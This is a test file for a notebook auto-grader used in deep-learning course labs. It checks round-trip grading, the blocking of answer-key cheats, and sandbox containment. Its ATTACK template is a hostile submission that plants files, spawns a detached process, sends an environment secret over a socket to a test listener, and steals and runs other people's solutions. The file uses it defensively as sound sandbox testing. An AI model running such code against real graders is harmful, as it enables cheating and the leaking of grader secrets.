"""Release/grade round trip over every lab in labs/ (nbgrader's `validate` and `validate --invert`).

For each graded lab: its source (the solution) grades full marks with every check cell earning its points, and
its student release grades zero with every check cell failing — so no check can pass on a blank notebook. The
solution is a submission like any other: it runs in its own sandbox, never reusing the reference run.
The labs without graded exercises are named in UNGRADED (a graded lab that lost its nbgrader metadata fails).

Answer keys: a third submission per lab is the solution with answer keys in it (ANSWER_KEYS): one exercise
calls a library feature its check cell forbids (`dlkit.forbidden` metadata), another is an alias of a visible
check's private reference in `dlkit.lab_checks`. Their values are right, so without `dlkit.grading.answer_guard`
they would earn full marks; they must earn 0 with a reason naming the function, and every other exercise of
that submission full marks.

Every attack class of a hostile submission, on every lab: a fourth submission per lab replaces each solution cell
with ATTACK, which looks for the solution of that very cell to exec — in the instructor's source (through the
working folder, `dlkit.__file__` and the checkout's known path), in the other submissions (the batch's folder
holds the lab's solution) and in other runs' temporary folders —, writes marker files into the checkout, the
package, the submissions folder, HOME and /tmp, starts a process in a session of its own, connects to a server
the test runs on the host's loopback, and reports the grader's environment through those same channels. It must
earn 0 on every lab, and after the batch no process or file of it is left on the host and the server saw nothing.
(tests/test_sandbox.py probes each attack one by one, with unsandboxed controls that show it would work.)

All labs are graded in one batch (two sandboxed runs at a time), then each lab's rows are asserted on its own.
"""

import glob
import json
import os
import shutil
import socket
import threading
import time
import uuid

import nbformat
import pytest
from lab_references import lab_references

from dlkit.grading import grade, release

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
LABS_DIR = os.path.join(ROOT, "labs")
LABS = sorted(glob.glob(os.path.join(LABS_DIR, "[0-9][0-9]_*.ipynb")))


def _is_graded(path):
    with open(path, encoding="utf-8") as f:
        cells = json.load(f)["cells"]
    return any(cell.get("metadata", {}).get("nbgrader", {}).get("solution") for cell in cells)


UNGRADED = {"00_setup.ipynb"}
GRADED = [lab for lab in LABS if os.path.basename(lab) not in UNGRADED]


# lab -> {solution cell: (how the answer key gets in, the function the reason names[, later exercises that call
# the student's function and so the answer key too])}. "call: CODE" runs CODE first thing in the solution region
# (then the instructor's solution computes the right value); "append: CODE" adds CODE after the solution (an
# alias that replaces the student's function by the answer key).
_KEY = "from dlkit.lab_checks import {} as answer_key\n{} = answer_key._reference_{}"
ANSWER_KEYS = {
    "01_initialization": {
        "ex1_zeros_init": (
            "append: " + _KEY.format("initialization", "initialize_parameters_zeros", "zeros_init"),
            "dlkit.lab_checks.initialization._reference_zeros_init",
        ),
        "ex4_xavier_init": (
            "call: import dlkit.initializers; dlkit.initializers.XavierNormal()",
            "dlkit.initializers.XavierNormal",
        ),
    },
    "02_regularization": {
        "ex1_l2_cost": (
            "append: " + _KEY.format("regularization", "l2_regularization_cost", "l2_cost"),
            "dlkit.lab_checks.regularization._reference_l2_cost",
        ),
        "ex3_inverted_dropout": (
            "call: import dlkit.layers; dlkit.layers.InvertedDropout(0.5)",
            "dlkit.layers.InvertedDropout",
        ),
    },
    "03_gradient_checking": {
        "ex1_two_sided": (
            "call: import dlkit.gradcheck; dlkit.gradcheck.numerical_gradient(f, [theta])",
            "dlkit.gradcheck.numerical_gradient",
        ),
        "ex2_relative_difference": (
            "append: " + _KEY.format("gradient_checking", "relative_difference", "relative_difference"),
            "dlkit.lab_checks.gradient_checking._reference_relative_difference",
        ),
    },
    "04_optimization": {
        "ex2_ewma": (
            "append: " + _KEY.format("optimization", "exponentially_weighted_average", "ewma"),
            "dlkit.lab_checks.optimization._reference_ewma",
        ),
        "ex5_adam": ("call: import keras; keras.optimizers.Adam(learning_rate)", "keras.optimizers.Adam"),
    },
    "05_hyperparameter_tuning": {
        "ex1_log_uniform": (
            "append: import dlkit.tuning; sample_log_uniform = dlkit.tuning.sample_log_uniform",
            "dlkit.tuning.sample_log_uniform",
        ),
        "ex3_narrow_range": (
            "call: import dlkit.tuning; dlkit.tuning.narrow_log_range(values, scores)",
            "dlkit.tuning.narrow_log_range",
        ),
    },
    "06_learning_rate_schedules": {
        "ex1_triangular_clr": (
            "append: " + _KEY.format("learning_rate_schedules", "triangular_clr", "triangular_clr"),
            "dlkit.lab_checks.learning_rate_schedules._reference_triangular_clr",
        ),
        "ex3_snapshot_lr": (
            "call: import dlkit.schedules; dlkit.schedules.SnapshotCosineDecay(initial_lr, T, M)",
            "dlkit.schedules.SnapshotCosineDecay",
        ),
    },
    "07_batch_normalization": {
        "ex1_batchnorm_forward": (
            "call: import dlkit.layers; dlkit.layers.batch_norm_forward(z, gamma, beta)",
            "dlkit.layers.batch_norm_forward",
        ),
        "ex4_keras_layer": ("call: keras.layers.BatchNormalization()", "keras.layers.BatchNormalization"),
    },
    "08_softmax": {
        "ex1_softmax": ("call: import keras; keras.ops.softmax(z)", "keras.ops.softmax"),
        "ex2_cross_entropy": (
            "append: " + _KEY.format("softmax", "cross_entropy", "cross_entropy"),
            "dlkit.lab_checks.softmax._reference_cross_entropy",
            # The step and the training call the student's cross_entropy: the answer key again.
            ("ex4_gradient_descent_step", "ex5_softmax_regression"),
        ),
        "ex3_cross_entropy_gradient": (
            "call: import tensorflow as tf; tf.GradientTape()",
            "tensorflow.GradientTape",
        ),
    },
    "09_cnn": {
        "ex2_conv_forward": ("call: import keras; keras.ops.conv(A_prev, W)", "keras.ops.conv"),
        "ex3_pool_forward": (
            "append: " + _KEY.format("cnn", "pool_forward", "pool_forward"),
            "dlkit.lab_checks.cnn._reference_pool_forward",
        ),
    },
    "10_activation_functions": {
        "ex1_activations": ("call: import keras; keras.activations.sigmoid(z)", "keras.activations.sigmoid"),
        "ex3_dead_relu_counter": (
            "call: import dlkit.callbacks; dlkit.callbacks.DeadUnitMonitor(self.x_probe)",
            "dlkit.callbacks.DeadUnitMonitor",
        ),
        "ex4_prelu": (
            "append: " + _KEY.format("activation_functions", "prelu_alpha_gradient", "prelu_alpha_gradient"),
            "dlkit.lab_checks.activation_functions._reference_prelu_alpha_gradient",
        ),
        "ex6_maxout": ("call: import dlkit.layers; dlkit.layers.Maxout(n)", "dlkit.layers.Maxout"),
    },
    "11_preprocessing_and_regularization": {
        "ex1_preprocess": (
            "call: import dlkit.preprocessing; dlkit.preprocessing.PCAWhitening(mode='zca').fit(x_train)",
            "dlkit.preprocessing.PCAWhitening",
        ),
        "ex3_drop_connect": (
            "append: "
            + _KEY.format("preprocessing_and_regularization", "drop_connect_moments", "drop_connect_moments"),
            "dlkit.lab_checks.preprocessing_and_regularization._reference_drop_connect_moments",
        ),
        "ex5_cutout_mixup": ("call: import keras; keras.layers.MixUp(alpha=0.2)", "keras.layers.MixUp"),
    },
    "12_tensorflow_and_backprop": {
        "ex3_losses": (
            "append: " + _KEY.format("tensorflow_and_backprop", "mse", "mse"),
            "dlkit.lab_checks.tensorflow_and_backprop._reference_mse",
        ),
        "ex4_gradient_descent": (
            "call: import keras; keras.optimizers.SGD(learning_rate)",
            "keras.optimizers.SGD",
        ),
        "ex5_dls_pipeline": ("call: import keras; keras.layers.Dense(3)", "keras.layers.Dense"),
    },
}


def _with_answer_keys(lab, path):
    """The lab's solution with the answer keys of ANSWER_KEYS[lab] put into its solution cells."""
    notebook = nbformat.read(lab, as_version=4)
    keys = dict(ANSWER_KEYS[os.path.basename(lab).removesuffix(".ipynb")])
    for cell in notebook.cells:
        how = keys.pop(cell.metadata.get("nbgrader", {}).get("grade_id"), None)
        if how is None:
            continue
        mode, _, code = how[0].partition(": ")  # how: (code, function[, later exercises])
        if mode == "append":
            cell.source += "\n" + code + "\n"
            continue
        lines = cell.source.split("\n")
        begin = next(i for i, line in enumerate(lines) if line.strip() == "### BEGIN SOLUTION")
        indent = lines[begin][: len(lines[begin]) - len(lines[begin].lstrip())]
        lines.insert(begin + 1, indent + code)
        cell.source = "\n".join(lines)
    assert not keys, f"no solution cells {sorted(keys)} in {lab}"
    nbformat.write(notebook, path)
    return path


ATTACK = """
import glob, json, os, socket, subprocess, sys
import dlkit

TOKEN, LAB, GRADE_ID, PORT = {token!r}, {lab!r}, {grade_id!r}, {port!r}
HOST_FOLDERS = [{root!r}, {labs!r}, {submissions!r}, os.path.dirname(dlkit.__file__), os.path.expanduser("~"), "/tmp"]
secret = os.environ.get("DLKIT_ATTACK_SECRET", "")
for folder in HOST_FOLDERS:  # tampering, and the environment leaked through a file
    try:
        with open(os.path.join(folder, f"{{TOKEN}}-written{{'-' + secret if secret else ''}}"), "w") as f:
            f.write(secret)
    except OSError:
        pass
sleeper = [sys.executable, "-c", "import time; time.sleep(900)", TOKEN]
try:
    subprocess.Popen(sleeper, start_new_session=True)  # outliving the run
except OSError:
    pass
try:  # the network: a server on the grader's loopback
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
        connection.sendall(f"{{TOKEN}} {{secret}}".encode())
except OSError:
    pass
stolen = None  # the instructor's (or a classmate's, or another run's) solution of this very cell
paths = [os.path.join({labs!r}, LAB + ".ipynb")] + glob.glob(os.path.join({submissions!r}, "*.ipynb"))
paths += glob.glob("/tmp/dlkit-grade-*/**", recursive=True)
for start in (os.getcwd(), os.path.dirname(dlkit.__file__)):
    folder = start
    while os.path.dirname(folder) != folder:
        paths.append(os.path.join(folder, "labs", LAB + ".ipynb"))
        folder = os.path.dirname(folder)
for path in paths:
    try:
        cells = json.load(open(path))["cells"]
    except Exception:  # not a notebook
        continue
    stolen = next(("".join(c["source"]) for c in cells if c["metadata"].get("nbgrader", {{}}).get("grade_id") == GRADE_ID), None)
    if stolen:
        break
if stolen:
    exec(stolen)
"""


def _attacker(lab, path, token, port):
    """The lab's release with every solution cell replaced by ATTACK (for that cell's grade_id)."""
    notebook = nbformat.read(lab, as_version=4)
    for cell in notebook.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and cell.cell_type == "code":
            cell.source = ATTACK.format(
                token=token,
                lab=os.path.basename(lab).removesuffix(".ipynb"),
                grade_id=meta["grade_id"],
                port=port,
                root=ROOT,
                labs=LABS_DIR,
                submissions=os.path.dirname(path),
            )
    nbformat.write(notebook, path)
    return path


class _Listener:
    """A TCP server on the host's loopback that remembers what anyone sent it."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.socket.settimeout(0.2)
        self.port, self.received, self.stopped = self.socket.getsockname()[1], [], False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stopped:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(2)
                try:
                    self.received.append(connection.recv(1024))
                except OSError:
                    self.received.append(b"(connected)")

    def close(self):
        self.stopped = True
        self.thread.join()
        self.socket.close()


def _leftovers(token, folders):
    """(processes whose command line holds `token`, files whose name holds it) on the host."""
    for _ in range(50):  # killed processes may take a moment to be reaped
        pids = []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    if token.encode() in f.read():
                        pids.append(pid)
            except OSError:
                pass
        if not pids:
            break
        time.sleep(0.1)
    files = []
    for top in folders:
        for folder, dirs, names in os.walk(top):
            dirs[:] = [d for d in dirs if d not in (".git", ".venv")]
            files += [os.path.join(folder, name) for name in names if token in name]
    files += glob.glob(f"/tmp/{token}*") + glob.glob(os.path.join(os.path.expanduser("~"), f"{token}*"))
    return pids, files


@pytest.fixture(scope="module")
def graded_rows(tmp_path_factory):
    """{lab file name: (solution row, release row, answer-key row, attacker row)} from one `grade` call over every
    graded lab, and what the attackers left on the host: {"processes", "files", "received"}."""
    folder = tmp_path_factory.mktemp("roundtrip")
    token, listener = f"attack-{uuid.uuid4().hex}", _Listener()
    os.environ["DLKIT_ATTACK_SECRET"] = "grader-secret"
    try:
        submissions = []
        for lab in GRADED:
            name = os.path.basename(lab)
            submissions.append(str(shutil.copy(lab, folder / ("solution-" + name))))
            student = release(lab, str(folder / "release"))
            submissions.append(str(shutil.copy(student, folder / ("student-" + name))))
            submissions.append(_with_answer_keys(lab, str(folder / ("answer-keys-" + name))))
            submissions.append(_attacker(student, str(folder / ("attacker-" + name)), token, listener.port))
        references = lab_references(tmp_path_factory, GRADED)
        rows = grade(submissions, source=LABS_DIR, jobs=2, timeout=900, references=references)
    finally:
        del os.environ["DLKIT_ATTACK_SECRET"]
        listener.close()
    processes, files = _leftovers(token, [ROOT, str(folder)])
    left = {"processes": processes, "files": files, "received": listener.received}
    return {os.path.basename(lab): tuple(rows[4 * i : 4 * i + 4]) for i, lab in enumerate(GRADED)}, left


@pytest.mark.parametrize("lab", LABS, ids=[os.path.basename(p).removesuffix(".ipynb") for p in LABS])
def test_solution_grades_full_marks_and_release_grades_zero(lab, graded_rows):
    name = os.path.basename(lab)
    if name in UNGRADED:
        assert not _is_graded(lab), f"{name} has graded exercises: remove it from UNGRADED"
        return
    assert _is_graded(lab), f"{name} has no nbgrader solution cells"
    solved, blank, _, _ = graded_rows[0][name]

    lab_name = name.removesuffix(".ipynb")
    assert solved.lab == blank.lab == lab_name
    assert solved.status == "graded", solved.reasons
    assert solved.exercises, "the lab has no check cells"
    for exercise in solved.exercises:
        assert exercise.points == exercise.max_points and not exercise.reason, (
            exercise.grade_id,
            exercise.reason,
        )
    assert solved.total == solved.max_total > 0
    assert blank.status == "graded", blank.reasons
    for exercise in blank.exercises:
        assert exercise.points == 0 and exercise.reason, f"{exercise.grade_id} passes on the blank release"
    assert blank.total == 0


@pytest.mark.parametrize("lab", GRADED, ids=[os.path.basename(p).removesuffix(".ipynb") for p in GRADED])
def test_answer_keys_earn_zero_and_name_the_function(lab, graded_rows):
    name = os.path.basename(lab)
    row = graded_rows[0][name][2]
    keys = ANSWER_KEYS[name.removesuffix(".ipynb")]
    assert row.status == "graded", row.reasons
    cheated = {}
    for grade_id, (_, function, *later) in keys.items():
        for exercise in (grade_id, *(later[0] if later else ())):
            cheated[f"{exercise}_check"] = function
    for exercise in row.exercises:
        if exercise.grade_id in cheated:
            expected = f"uses `{cheated[exercise.grade_id]}`, which this exercise asks you to write"
            assert (exercise.points, exercise.status, exercise.message) == (0, "forbidden function", expected)
            assert exercise.reason == expected
        else:
            assert exercise.points == exercise.max_points, (exercise.grade_id, exercise.reason)
    assert set(cheated) <= {exercise.grade_id for exercise in row.exercises}


@pytest.mark.parametrize("lab", GRADED, ids=[os.path.basename(p).removesuffix(".ipynb") for p in GRADED])
def test_every_attack_earns_zero(lab, graded_rows):
    row = graded_rows[0][os.path.basename(lab)][3]
    assert row.status == "graded" and row.sandbox == "bwrap", row.reasons
    assert row.total == 0 and row.max_total > 0, [(e.grade_id, e.points) for e in row.exercises if e.points]


def test_attacks_leave_nothing_on_the_host(graded_rows):
    left = graded_rows[1]
    assert left == {"processes": [], "files": [], "received": []}
